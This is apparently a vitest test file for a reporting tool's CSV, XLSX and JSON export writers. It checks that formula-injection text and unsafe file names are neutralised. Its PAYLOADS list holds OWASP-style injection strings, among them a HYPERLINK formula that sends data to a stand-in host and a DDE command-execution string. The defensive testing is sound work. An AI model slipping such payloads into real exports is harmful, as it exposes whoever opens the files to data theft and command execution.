/**
 * The export writers on hand-made tables and results: CSV (RFC 4180, BOM, neutralising) parsed back
 * with csv-parse, XLSX read back with exceljs (types, number formats, the frozen header, the
 * Definitions sheet, text never a formula), and the JSON document.
 */
import {
  defaultRegistry,
  type ExportTable,
  type KpiResult,
  type MeasureInfo,
  type TableResult,
} from "@tallyline/report-defs";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { neutraliseText, writeCsv } from "../src/exports/csv";
import { type exportDocument, exportFileName, writeExport } from "../src/exports/exports";
import { wallClockDate, writeXlsx } from "../src/exports/xlsx";

const registry = defaultRegistry();
const info = (reportId: string, i = 0): MeasureInfo => {
  const m = registry.get(reportId).measures[i];
  if (!m) throw new Error("no measure");
  return { id: m.id, label: m.label, format: m.format, goodDirection: m.goodDirection, definition: m.definition };
};

/** Payloads of spreadsheet formula injection (OWASP) and of markup. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "<script>alert(1)</script>",
  "=1+1",
];

const table = (rows: ExportTable["rows"]): ExportTable => ({
  reportId: "calls.agents",
  columns: [
    { id: "label", name: "Agent", unit: "text" },
    { id: "answered", name: "Calls answered", unit: "count", measureId: "answered" },
    { id: "aht", name: "AHT", unit: "seconds", measureId: "aht" },
    { id: "rate", name: "Resolution rate", unit: "percent", measureId: "resolution_rate" },
    { id: "aht.change", name: "AHT, change", unit: "seconds", measureId: "aht", signed: true },
    { id: "rate.change", name: "Resolution rate, change", unit: "percent", signed: true, points: true },
    { id: "csat", name: "CSAT", unit: "score" },
    { id: "day", name: "Date", unit: "date" },
    { id: "hour", name: "Hour", unit: "datetime" },
    { id: "month", name: "Month", unit: "month" },
  ],
  rows,
  measures: [info("calls.agents", 0), info("calls.agents", 1)],
});

describe("CSV", () => {
  it("neutralises text that starts with = + - @ tab or CR, and nothing else", () => {
    expect(PAYLOADS.map(neutraliseText)).toEqual(PAYLOADS.map((p) => (p.startsWith("<") ? p : `'${p}`)));
    for (const s of ["ALICE", "1999-02-01", "Total", " =x", "a=b", "'quoted", ""]) expect(neutraliseText(s)).toBe(s);
  });

  it("RFC 4180: CRLF line ends, quotes doubled, commas and line breaks quoted; numbers stay numbers", () => {
    const csv = writeCsv(
      table([
        ['Smith, "Al"\nJr', 3, 61.5, 87.25, -12, -2.5, 4.5, "1999-02-01", "1999-02-01T13:00", "1999-02"],
        ["-2+3", -5, null, null, null, null, null, null, null, null],
      ]),
    );
    expect(csv.split("\r\n")).toEqual([
      'Agent,Calls answered,AHT (s),Resolution rate (%),"AHT, change (s)","Resolution rate, change (pp)",CSAT,Date,Hour,Month',
      '"Smith, ""Al""\nJr",3,61.5,87.25,-12,-2.5,4.5,1999-02-01,1999-02-01T13:00,1999-02',
      "'-2+3,-5,,,,,,,,",
      "",
    ]);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
  });

  it("bom adds the UTF-8 byte order mark and nothing else", () => {
    const t = table([["Zoë", 1, 1, 1, 1, 1, 1, "1999-02-01", null, null]]);
    const plain = writeCsv(t);
    const bom = writeCsv(t, { bom: true });
    expect(bom).toBe(`\ufeff${plain}`);
    expect([...Buffer.from(bom, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it("every payload comes back neutralised from a CSV parser; negative numbers come back as numbers", () => {
    const rows = PAYLOADS.map((p, i) => [p, -i - 1, null, null, null, null, null, null, null, null]);
    const back = parse(writeCsv(table(rows)), { relax_quotes: false }) as string[][];
    expect(back.slice(1).map((r) => r[0])).toEqual(PAYLOADS.map((p) => (p.startsWith("<") ? p : `'${p}`)));
    expect(back.slice(1).map((r) => Number(r[1]))).toEqual(PAYLOADS.map((_, i) => -i - 1));
    expect(back.slice(1).every((r) => /^-\d+$/.test(r[1] ?? ""))).toBe(true);
  });

  it("neutralises header names too (a series can be named after an imported agent)", () => {
    const t: ExportTable = {
      reportId: "x",
      columns: [{ id: "s", name: "@SUM(1)", unit: "count" }],
      rows: [[1]],
      measures: [],
    };
    expect(writeCsv(t)).toBe("'@SUM(1)\r\n1\r\n");
  });
});

/** The Excel serial (days since 1899-12-30) of a value exceljs read back as a Date. */
const serial = (v: unknown) => ((v as Date).getTime() - Date.UTC(1899, 11, 30)) / 86_400_000;

const readXlsx = async (bytes: Uint8Array) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return wb;
};

describe("XLSX", () => {
  it("typed cells: numbers with formats, percent as a fraction, durations in days, dates as dates", async () => {
    const bytes = await writeXlsx(
      table([["ALICE", 1234, 3725, 87.5, -24, -2.5, 4.25, "1999-02-01", "1999-02-01T13:00", "1999-02"]]),
      { lines: [["Report", "Agents"]], created: new Date("1999-02-03T12:00:00Z") },
    );
    const ws = (await readXlsx(bytes)).getWorksheet("Report");
    if (!ws) throw new Error("no Report sheet");
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(ws.getRow(1).values).toEqual([
      undefined,
      "Agent",
      "Calls answered",
      "AHT",
      "Resolution rate",
      "AHT, change (s)",
      "Resolution rate, change (pp)",
      "CSAT",
      "Date",
      "Hour",
      "Month",
    ]);
    const row = ws.getRow(2);
    const cell = (i: number) => row.getCell(i);
    expect(cell(1).type).toBe(ExcelJS.ValueType.String);
    expect([cell(2).value, cell(2).numFmt]).toEqual([1234, "#,##0"]);
    // 3,725 s = 1 h 2 min 5 s, in days (exceljs reads a number with a time format back as a Date).
    expect(serial(cell(3).value)).toBeCloseTo(3725 / 86400, 9);
    expect(cell(3).numFmt).toBe("[h]:mm:ss");
    expect([cell(4).value, cell(4).numFmt]).toEqual([0.875, "0.0%"]);
    expect([cell(5).value, cell(5).numFmt]).toEqual([-24, "0.0"]);
    expect([cell(6).value, cell(6).numFmt]).toEqual([-2.5, "0.0"]);
    expect([cell(7).value, cell(7).numFmt]).toEqual([4.25, "0.00"]);
    expect(cell(8).type).toBe(ExcelJS.ValueType.Date);
    expect((cell(8).value as Date).toISOString()).toBe("1999-02-01T00:00:00.000Z");
    expect(cell(8).numFmt).toBe("yyyy-mm-dd");
    expect((cell(9).value as Date).toISOString()).toBe("1999-02-01T13:00:00.000Z");
    expect(cell(9).numFmt).toBe("yyyy-mm-dd hh:mm");
    expect((cell(10).value as Date).toISOString()).toBe("1999-02-01T00:00:00.000Z");
    expect(cell(10).numFmt).toBe("yyyy-mm");
  });

  it("text is never a formula: every payload reads back as the same plain string", async () => {
    const rows = PAYLOADS.map((p, i) => [p, -i - 1, null, null, null, null, null, "Total", null, null]);
    const ws = (await readXlsx(await writeXlsx(table(rows), { lines: [], created: new Date(0) }))).getWorksheet(
      "Report",
    );
    if (!ws) throw new Error("no Report sheet");
    const back: unknown[] = [];
    ws.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
      back.push(row.getCell(1).value);
    });
    // XML reads a CR as a line feed (exceljs writes it raw): still plain text, one character changed.
    expect(back).toEqual(PAYLOADS.map((p) => p.replace("\r", "\n")));
  });

  it("a wall-clock text becomes a Date of those UTC fields; other text none", () => {
    expect(wallClockDate("2026-10-25T02:47")?.toISOString()).toBe("2026-10-25T02:47:00.000Z");
    expect(wallClockDate("2026-10-25T02:47+01:00")).toBeNull();
    expect(wallClockDate("Total")).toBeNull();
  });
});

const kpi: KpiResult = {
  reportId: "calls.aht",
  shape: "kpi",
  period: "1999-02-01 to 1999-02-03",
  from: "1999-02-01",
  to: "1999-02-03",
  previousFrom: "1999-01-29",
  previousTo: "1999-01-31",
  timezone: "Europe/Amsterdam",
  grain: "day",
  value: 156,
  previousValue: 180,
  change: -24,
  changePercent: (-24 / 180) * 100,
  breakdown: [{ date: "1999-02-01", total: 156 }],
  stats: { mean: 156, median: 120, p90: 260 },
  measure: info("calls.aht"),
};

describe("writeExport", () => {
  const input = {
    def: registry.get("calls.aht"),
    result: kpi,
    filters: { queue: ["PS"] },
    segment: { id: "s1", name: "=Night shift", filters: { agent: ["anonbank:ALICE"] } },
    now: Date.parse("1999-02-03T12:00:00Z"),
  };

  it("JSON: the result plus the definitions (id, version, sentence) and the query", async () => {
    const file = await writeExport("json", input);
    expect(file.fileName).toBe("calls.aht_1999-02-01_1999-02-03.json");
    const doc = JSON.parse(file.body as string) as ReturnType<typeof exportDocument>;
    expect(doc.report).toMatchObject({ id: "calls.aht", version: registry.get("calls.aht").version, shape: "kpi" });
    expect(doc.definitions).toEqual([info("calls.aht")]);
    expect(doc.definitions[0]?.definition.length).toBeGreaterThan(40);
    expect(doc.query).toMatchObject({
      from: "1999-02-01",
      to: "1999-02-03",
      timezone: "Europe/Amsterdam",
      filters: { queue: ["PS"] },
      segment: { id: "s1", name: "=Night shift", filters: { agent: ["anonbank:ALICE"] } },
    });
    expect(doc.result).toEqual(kpi);
    expect(doc.exportedAt).toBe("1999-02-03T12:00:00.000Z");
  });

  it("XLSX: a Definitions sheet with the period, zone, filters, segment and each measure's sentence", async () => {
    const file = await writeExport("xlsx", input);
    expect(file.fileName).toBe("calls.aht_1999-02-01_1999-02-03.xlsx");
    const wb = await readXlsx(file.body as Uint8Array);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Report", "Definitions"]);
    const defs = wb.getWorksheet("Definitions");
    if (!defs) throw new Error("no Definitions sheet");
    const pairs = new Map<string, unknown>();
    defs.eachRow((row) => pairs.set(String(row.getCell(1).value), row.getCell(2).value));
    expect(pairs.get("Report id")).toBe("calls.aht");
    expect(pairs.get("Version")).toBe(registry.get("calls.aht").version);
    expect(pairs.get("Period")).toBe("1999-02-01 to 1999-02-03");
    expect(pairs.get("Previous period")).toBe("1999-01-29 to 1999-01-31");
    expect(pairs.get("Time zone")).toBe("Europe/Amsterdam");
    expect(pairs.get("Filters")).toBe("queue: PS");
    expect(pairs.get("Segment")).toBe("=Night shift (agent: anonbank:ALICE)");
    expect(pairs.get("aht")).toBe("AHT");
    let sentence: unknown;
    defs.eachRow((row) => {
      if (row.getCell(1).value === "aht") sentence = row.getCell(4).value;
      row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
    });
    expect(sentence).toBe(info("calls.aht").definition);
    // The Report sheet: the Total row holds 156 s as days, the change in seconds.
    const total = wb.getWorksheet("Report")?.getRow(3);
    expect(total?.getCell(1).value).toBe("Total");
    expect(serial(total?.getCell(2).value)).toBeCloseTo(156 / 86400, 9);
    expect(total?.getCell(4).value).toBe(-24);
  });

  it("CSV with and without BOM; the file name keeps safe characters only", async () => {
    expect(((await writeExport("csv", input, { bom: true })).body as string).startsWith("\ufeffDate,AHT (s)")).toBe(
      true,
    );
    expect(((await writeExport("csv", input)).body as string).startsWith("Date,AHT (s)")).toBe(true);
    expect(exportFileName({ reportId: 'x/../"a b";', from: "1999-02-01", to: "1999-02-03" }, "csv")).toBe(
      "x_..__a_b___1999-02-01_1999-02-03.csv",
    );
    expect(exportFileName({ reportId: "..x", from: "a\r\nb", to: "c" }, "csv")).toBe("_x_a__b_c.csv");
  });
});

/** A table result with an injected label, to check the whole path (result -> table -> file). */
export const injectedTable = (labels: readonly string[]): TableResult => ({
  ...kpi,
  reportId: "calls.agents",
  shape: "table",
  measures: [0, 1, 2, 3].map((i) => info("calls.agents", i)),
  dimension: "Agent",
  rows: labels.map((label, i) => ({
    key: label,
    label,
    values: { answered: -i, aht: 10, csat: 1, resolution_rate: 5 },
    previous: {},
  })),
  totals: { values: {}, previous: {} },
});
